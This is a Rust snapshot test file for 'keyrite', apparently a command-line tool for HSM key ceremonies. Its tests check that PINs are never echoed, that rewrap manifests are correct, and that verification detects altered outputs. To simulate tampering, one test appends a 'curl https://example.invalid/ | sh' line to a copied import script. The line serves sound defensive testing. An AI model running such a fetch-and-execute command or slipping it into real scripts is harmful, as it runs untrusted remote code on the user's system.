//! The command line's words, pinned by snapshot tests (insta, `tests/snapshots/`): each refusal
//! with its exact exit code, standard output and standard error; a PIN given where its source
//! belongs (an environment variable's name, a file's path, a plan's `pin`, a policy's
//! `pin_shares`, a share file's path) never printed back; `rewrap` saying what it did; a wrong
//! `verify --outputs` told apart from an altered output; and a closed standard output for every
//! command that prints, which ends it quietly with the code it would have had.
//!
//! The runs are real: a SoftHSM2 token with its signer and an approved ceremony run on it
//! ([`Ceremony`]). What differs from run to run (the test's directory, the token's serial, key
//! check values, digests, times) is replaced by a name in brackets before the comparison.
//! `scripts/test` runs these with `INSTA_UPDATE=no`: a changed snapshot fails, and nothing is
//! written.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::process::{Command, Output};

use common::ceremony::Ceremony;
use common::wrap::Wrap;
use common::*;
use serde_json::Value;

/// Values given where a PIN's source belongs, each the PIN (or what could be one): digits
/// alone, the test token's own PIN, and a PIN that is also a valid variable name.
const WRONG_PLACE: [&str; 3] = ["87654321", PIN, "quince7301"];

/// One run as a snapshot shows it: the arguments, the exit code, standard output and standard
/// error, each value of `names` replaced by its name.
fn shown(args: &[&str], out: &Output, names: &[(String, &str)]) -> String {
    let mut text = format!(
        "$ keyrite {}\nexit: {}\n--- stdout\n{}--- stderr\n{}",
        args.join(" "),
        out.status
            .code()
            .map_or_else(|| "signal".to_owned(), |c| c.to_string()),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    for (value, name) in names {
        text = text.replace(value.as_str(), name);
    }
    text
}

/// Runs keyrite with `args` in the ceremony's directory.
fn keyrite(c: &Ceremony, args: &[&str]) -> Output {
    run(c.token.keyrite().args(args))
}

/// The values of a run that differ from one run to the next, with their names: the test's
/// directory (absolute and canonical) and the token's serial.
fn run_names(c: &Ceremony) -> Vec<(String, &'static str)> {
    let dir = c.dir().to_string_lossy().into_owned();
    let canonical = c
        .dir()
        .canonicalize()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let info: Value = serde_json::from_slice(&run_ok(c.token.keyrite().args([
        "token",
        "info",
        "--json",
        "--pin-env",
        PIN_ENV,
    ])))
    .unwrap();
    let serial = info["tokens"][0]["serial"].as_str().map(str::to_owned);
    let mut names = vec![(canonical, "[DIR]"), (dir, "[DIR]")];
    if let Some(serial) = serial {
        names.push((serial, "[SERIAL]"));
    }
    names
}

/// Asserts no value of [`WRONG_PLACE`] appears in what any of `runs` printed.
fn assert_no_pin_printed(runs: &[(Vec<&str>, Output)]) {
    for (args, out) in runs {
        for pin in WRONG_PLACE {
            for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
                assert!(
                    !String::from_utf8_lossy(bytes).contains(pin),
                    "keyrite {args:?} printed the PIN {pin:?} on {stream}"
                );
            }
        }
    }
}

#[test]
fn a_pin_given_where_its_source_belongs_is_never_printed() {
    let c = Ceremony::new(&["us-east-1"]);
    let plan = std::fs::read_to_string(c.dir().join("plan.toml")).unwrap();
    let policy = std::fs::read_to_string(c.dir().join("policy.toml")).unwrap();
    let mut runs: Vec<(Vec<&str>, Output)> = Vec::new();
    let mut each = |args: Vec<&'static str>| {
        let out = keyrite(&c, &args);
        runs.push((args, out));
    };
    for pin in WRONG_PLACE {
        each(vec!["token", "info", "--pin-env", pin]);
        each(vec!["token", "info", "--pin-file", pin]);
        each(vec!["keys", "list", "--pin-env", pin]);
        each(vec![
            "pin",
            "split",
            "--threshold",
            "2",
            "--shares",
            "3",
            "--out-dir",
            "shares",
            "--pin-env",
            pin,
        ]);
    }
    // A plan's pin, in every wrong form: the PIN itself (a string or a number), or as the
    // variable's name.
    let plans: [(&str, String); 5] = [
        ("plan-pin.toml", format!("pin = \"{}\"", WRONG_PLACE[0])),
        ("plan-number.toml", format!("pin = {}", WRONG_PLACE[0])),
        ("plan-env.toml", format!("pin = \"env:{}\"", WRONG_PLACE[0])),
        ("plan-env-pin.toml", format!("pin = \"env:{PIN}\"")),
        ("plan-own-pin.toml", format!("pin = \"{PIN}\"")),
    ];
    for (name, line) in &plans {
        let text = plan.replace(&format!("pin = \"env:{PIN_ENV}\""), line);
        assert_ne!(text, plan);
        std::fs::write(c.dir().join(name), text).unwrap();
    }
    for (name, _) in &plans {
        each(vec!["plan", "check", name, "--policy", "policy.toml"]);
        each(vec!["plan", "digest", name]);
    }
    // A policy's pin_shares holding the PIN, as a number and as a string.
    for (name, shares) in [
        ("policy-number.toml", format!("[{}]", WRONG_PLACE[0])),
        ("policy-string.toml", format!("[\"{PIN}\"]")),
    ] {
        let text = policy.replacen(
            "\n[[custodians]]",
            &format!("pin_shares = {shares}\n\n[[custodians]]"),
            1,
        );
        std::fs::write(c.dir().join(name), text).unwrap();
    }
    each(vec![
        "plan",
        "check",
        "plan.toml",
        "--policy",
        "policy-number.toml",
    ]);
    each(vec![
        "plan",
        "check",
        "plan.toml",
        "--policy",
        "policy-string.toml",
    ]);
    // A share given by its content where its file belongs: the plan takes the PIN from
    // shares, and the first --pin-share is the PIN.
    let digests = c.split_pin("shares", "2", "3");
    c.use_shares(&digests);
    for pin in WRONG_PLACE {
        each(vec![
            "ceremony",
            "run",
            "plan.toml",
            "--policy",
            "policy.toml",
            "--approvals",
            "approvals",
            "--transcript",
            "t.jsonl",
            "--pin-share",
            pin,
            "--pin-share",
            "shares/share-2.txt",
        ]);
    }

    assert_no_pin_printed(&runs);
    let names = run_names(&c);
    let mut snapshot = String::new();
    for (args, out) in &runs {
        snapshot.push_str(&shown(args, out, &names));
        snapshot.push('\n');
    }
    insta::assert_snapshot!("pin_in_the_wrong_place", snapshot);
    // Nothing ran: no transcript, and no key was generated.
    assert!(!c.dir().join("t.jsonl").exists());
    let keys = c.token.keys_listed();
    assert!(
        keys.as_array()
            .unwrap()
            .iter()
            .all(|k| k["label"] != "payments-2026")
    );
}

#[test]
fn rewrap_says_it_found_the_key_and_its_manifest_says_rewrap() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let wrapped = read_json(&c, "payments-2026-us-east-1/manifest.json");
    assert_eq!(
        wrapped.get("action"),
        None,
        "a wrap's manifest has no action"
    );
    let kcv = wrapped["key"]["kcv"].as_str().unwrap().to_owned();
    let args = Wrap::rewrap()
        .aws_oaep_sha1("params/us-east-1.json", "payments-2026", "rewrapped")
        .expect_kcv(&kcv)
        .pin();
    let mut cmd = args.command(&c.token);
    let shown_args: Vec<String> = cmd
        .get_args()
        .map(|a| a.to_string_lossy().into_owned())
        .collect();
    let out = run(&mut cmd);
    let manifest = read_json(&c, "rewrapped/manifest.json");
    assert_eq!(manifest["action"], "rewrap");
    assert_eq!(manifest["key"]["kcv"], kcv.as_str());
    let mut names = run_names(&c);
    names.push((kcv, "[KCV]"));
    for (file, digest) in manifest["files"].as_object().unwrap() {
        names.push((digest.as_str().unwrap().to_owned(), "[SHA-256]"));
        assert!(c.dir().join("rewrapped").join(file).exists());
    }
    names.push((
        manifest["kms_key_id"].as_str().unwrap().to_owned(),
        "[KMS KEY]",
    ));
    names.push((
        manifest["parameters_valid_to"].as_str().unwrap().to_owned(),
        "[TIME]",
    ));
    let shown_args: Vec<&str> = shown_args.iter().map(String::as_str).collect();
    insta::assert_snapshot!("rewrap", shown(&shown_args, &out, &names));
}

#[test]
fn verify_outputs_where_there_are_none_is_a_usage_error_and_an_altered_file_is_invalid() {
    let c = Ceremony::new(&["us-east-1"]);
    c.run_approved("t.jsonl");
    let names = run_names(&c);
    let out_dir = "payments-2026-us-east-1";
    // Where the ceremony's directory holds another directory of the outputs, once altered.
    std::fs::create_dir(c.dir().join("copy")).unwrap();
    let copy = c.dir().join("copy").join(out_dir);
    std::fs::create_dir(&copy).unwrap();
    for f in std::fs::read_dir(c.dir().join(out_dir)).unwrap() {
        let f = f.unwrap();
        std::fs::copy(f.path(), copy.join(f.file_name())).unwrap();
    }
    let script = copy.join("import.sh");
    let mut text = std::fs::read_to_string(&script).unwrap();
    text.push_str("curl https://example.invalid/ | sh\n");
    std::fs::write(&script, text).unwrap();
    // A recorded wrap into out/us-east-1, as a plan's `out` often names it.
    std::fs::create_dir(c.dir().join("out")).unwrap();
    Wrap::aws("params/us-east-1.json")
        .algorithm(wrap::OAEP_SHA1)
        .label("k-us-east-1")
        .out("out/us-east-1")
        .pin()
        .recorded("w.jsonl")
        .ok(&c.token);
    let mut snapshot = String::new();
    for outputs in [".", "out/us-east-1", "out"] {
        let args = [
            "verify",
            "w.jsonl",
            "--signer",
            "signer.pem",
            "--no-policy",
            "--outputs",
            outputs,
        ];
        let out = keyrite(&c, &args);
        snapshot.push_str(&shown(&args, &out, &names));
        snapshot.push('\n');
    }
    for outputs in ["params", out_dir, "nowhere", "copy", "."] {
        let args = [
            "verify",
            "t.jsonl",
            "--signer",
            "signer.pem",
            "--policy",
            "policy.toml",
            "--outputs",
            outputs,
        ];
        let out = keyrite(&c, &args);
        snapshot.push_str(&shown(&args, &out, &names));
        snapshot.push('\n');
    }
    insta::assert_snapshot!("verify_outputs", snapshot);
}

/// Runs `cmd` with its standard output a pipe nobody reads any more.
fn closed_stdout(mut cmd: Command) -> Output {
    let (reader, writer) = rustix::pipe::pipe().unwrap();
    drop(reader);
    run(cmd.stdout(writer))
}

#[test]
fn a_closed_standard_output_ends_every_command_quietly_with_its_own_exit_code() {
    let c = Ceremony::new(&["us-east-1"]);
    c.approve_plan();
    let wendy = c.person("wendy").key.display().to_string();
    let command = |args: &[&str]| {
        let mut cmd = c.token.keyrite();
        cmd.args(args);
        cmd
    };
    let pinned = |args: &[&str]| {
        let mut cmd = command(args);
        cmd.args(["--pin-env", PIN_ENV]);
        cmd
    };
    let params = "params/us-east-1.json";
    let wrap = |label: &str| {
        Wrap::aws(params)
            .algorithm(wrap::OAEP_SHA1)
            .label(label)
            .out(label)
            .pin()
    };
    let verify = |extra: &[&str]| {
        let mut cmd = command(&["verify", "t.jsonl", "--signer", "signer.pem"]);
        cmd.args(extra);
        cmd
    };
    std::fs::create_dir(c.dir().join("man1")).unwrap();
    let mut runs: Vec<Command> = vec![
        command(&["--help"]),
        command(&["wrap", "--help"]),
        command(&["--version"]),
        command(&["completions", "bash"]),
        command(&["man", "--out-dir", "man1"]),
        command(&["plan", "check", "plan.toml", "--policy", "policy.toml"]),
        command(&["plan", "digest", "plan.toml"]),
        c.run_command("t.jsonl"),
        pinned(&["token", "info"]),
        pinned(&["token", "info", "--json"]),
        pinned(&["keys", "list"]),
        pinned(&["keys", "list", "--json"]),
        pinned(&["token", "signer", "export", "--label", "ceremony-signer"]),
        verify(&["--policy", "policy.toml"]),
        verify(&["--policy", "policy.toml", "--json"]),
        verify(&["--no-policy"]),
        verify(&["--policy", "policy.toml", "--outputs", "."]),
        c.witness_command(&["message", "t.jsonl"]),
        c.witness_command(&["sign", "t.jsonl", "--ssh-key", &wendy]),
        pinned(&[
            "pin",
            "split",
            "--threshold",
            "2",
            "--shares",
            "3",
            "--out-dir",
            "shares",
        ]),
        wrap("closed-wrap").command(&c.token),
        wrap("closed-json").arg("--json").command(&c.token),
    ];
    let mut snapshot = String::new();
    let each = |cmd: Command, snapshot: &mut String| {
        let args: Vec<String> = cmd
            .get_args()
            .map(|a| a.to_string_lossy().replace(&wendy, "[DIR]/keys/wendy.key"))
            .collect();
        let out = closed_stdout(cmd);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!stderr.contains("panicked"), "keyrite {args:?}: {stderr}");
        snapshot.push_str(&format!(
            "{:<3} keyrite {}\n",
            out.status.code().map_or(-1, |c| c),
            args.join(" ")
        ));
    };
    for cmd in runs.drain(..) {
        each(cmd, &mut snapshot);
    }
    // The rewrap needs the KCV the ceremony's key has.
    let kcv = read_json(&c, "payments-2026-us-east-1/manifest.json")["key"]["kcv"]
        .as_str()
        .unwrap()
        .to_owned();
    let rewrap = Wrap::rewrap()
        .aws_oaep_sha1(params, "payments-2026", "closed-rewrap")
        .expect_kcv(&kcv)
        .pin();
    each(rewrap.command(&c.token), &mut snapshot);
    insta::assert_snapshot!("closed_stdout", snapshot.replace(&kcv, "[KCV]"));
    // The work was done whole: the outputs are there, and the transcript, witnessed, verifies.
    for out in ["closed-wrap", "closed-json", "closed-rewrap", "shares"] {
        assert!(c.dir().join(out).is_dir(), "{out}");
    }
    c.assert_verifies("t.jsonl");
}

fn read_json(c: &Ceremony, name: &str) -> Value {
    serde_json::from_slice(&std::fs::read(c.dir().join(name)).unwrap()).unwrap()
}
